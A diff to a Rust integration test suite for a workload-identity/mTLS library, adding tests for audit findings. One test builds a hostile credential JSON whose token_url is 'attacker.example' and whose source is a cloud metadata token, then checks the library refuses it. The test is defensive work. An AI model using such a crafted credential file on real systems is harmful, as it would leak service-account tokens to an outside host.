@@ -72,7 +72,7 @@ fn programs() -> &'static Path {
         // Next to the library, inside the target directory: rebuilt on every run, never litter.
         let out = lib.parent().unwrap().join("wa-c-tests");
         std::fs::create_dir_all(&out).unwrap();
-        for name in ["token", "identity", "mtls", "bad_input"] {
+        for name in ["token", "identity", "mtls", "bad_input", "trust_boundary"] {
             let status = Command::new("cc")
                 .args([
                     "-std=c11",
@@ -290,6 +290,20 @@ fn two_c_programs_ends_complete_mtls_and_refuse_by_policy() {
     assert_eq!(stdout_of(&out), "mtls local: ok\n");
 }
 
+#[test]
+fn finding_5_c_td_policy_with_a_path_is_refused_not_widened() {
+    let f = fixtures();
+    let out = run_checked(&programs().join("mtls"), &["finding-5"], &identity_env(&f));
+    assert_eq!(stdout_of(&out), "mtls finding-5: ok\n");
+}
+
+#[test]
+fn finding_9_c_impossible_sizes_are_invalid_arguments() {
+    let f = fixtures();
+    let out = run_checked(&programs().join("mtls"), &["finding-9"], &identity_env(&f));
+    assert_eq!(stdout_of(&out), "mtls finding-9: ok\n");
+}
+
 /// An mTLS server written with the Rust library (tokio): answers `<peer> said: <message>`.
 async fn rust_echo_server(server_dir: &Path) -> (SocketAddr, tokio::task::JoinHandle<SpiffeId>) {
     let store = SvidStore::new(CredentialsDir::new(server_dir).load_blocking().unwrap());
@@ -324,6 +338,50 @@ async fn c_client_talks_to_a_rust_server() {
     .unwrap();
     assert_eq!(stdout_of(&out), "mtls remote: ok\n");
     assert_eq!(server.await.unwrap().as_str(), CLIENT_ID);
+}
+
+#[test]
+fn finding_1_c_program_refuses_hostile_files_and_other_types() {
+    let emu = Emulator::start_in_thread(EmulatorConfig {
+        identity: IdentityConfig {
+            oauth_clients: vec![OAuthClient::new("c-client", "c-secret")],
+            refresh_tokens: vec![RefreshTokenGrant::new("1//c-refresh", "c-client")],
+            ..IdentityConfig::default()
+        },
+        ..EmulatorConfig::default()
+    })
+    .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let secret = dir.path().join("id_ed25519");
+    std::fs::write(&secret, "not-a-real-private-key").unwrap();
+    let hostile = dir.path().join("hostile.json");
+    let json = serde_json::json!({
+        "type": "external_account",
+        "audience": "//iam.googleapis.com/x",
+        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
+        "token_url": "https://attacker.example/v1/token",
+        "credential_source": {
+            "url": format!("{}/computeMetadata/v1/instance/service-accounts/default/token", emu.url()),
+            "headers": {"Metadata-Flavor": "Google"},
+        },
+    });
+    std::fs::write(&hostile, json.to_string()).unwrap();
+    let out = run_checked(
+        &programs().join("trust_boundary"),
+        &[],
+        &[
+            ("WA_TEST_EMULATOR_URL", emu.url()),
+            ("WA_TEST_SECRET_FILE", secret.display().to_string()),
+            ("WA_TEST_HOSTILE_FILE", hostile.display().to_string()),
+            ("GCE_METADATA_HOST", emu.host()),
+            ("WORKLOAD_AUTH_ALLOWED_ENDPOINTS", "sts.corp.example".into()),
+        ],
+    );
+    assert_eq!(stdout_of(&out), "trust boundary: ok\n");
+    // The one token the program asked for with the right type; nothing else reached the
+    // emulator (not the metadata token the hostile file names, not the metadata server).
+    assert_eq!(emu.requests(Endpoint::OAuthToken), 1);
+    assert_eq!(emu.total_requests(), 1);
 }
 
 #[test]
